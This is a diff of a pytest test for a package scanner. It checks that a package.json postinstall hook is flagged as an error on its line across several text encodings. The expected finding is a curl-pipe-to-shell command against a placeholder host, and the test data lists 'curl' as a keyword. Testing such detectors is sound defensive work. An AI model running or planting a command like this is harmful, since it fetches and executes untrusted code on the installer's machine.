@@ -63,6 +63,10 @@ def test_python_is_there_on_a_machine_without_it(monkeypatch: pytest.MonkeyPatch
 )
 @pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16"])
 def test_a_command_of_a_package_has_its_line_however_it_is_escaped(written: str, encoding: str) -> None:
-    text = '{"name": "a",\n "keywords": ["curl", "\\u0063url"],\n "scripts": {\n  "postinstall":\n   "%s"}}\n' % written  # noqa: UP031 - braces
-    [found] = [one for one in content_findings({"package.json": text.encode(encoding)}) if one.level == "error"]
+    text = '{"name": "a",\n "keywords": ["curl", "\\u0063url"],\n "scripts": {\n  "postinstall":\n   "HERE"}}\n'
+    [found] = [
+        one
+        for one in content_findings({"package.json": text.replace("HERE", written).encode(encoding)})
+        if one.level == "error"
+    ]
     assert (found.code, found.line, found.text) == ("shipped-start", 5, "curl x.example/a | sh")
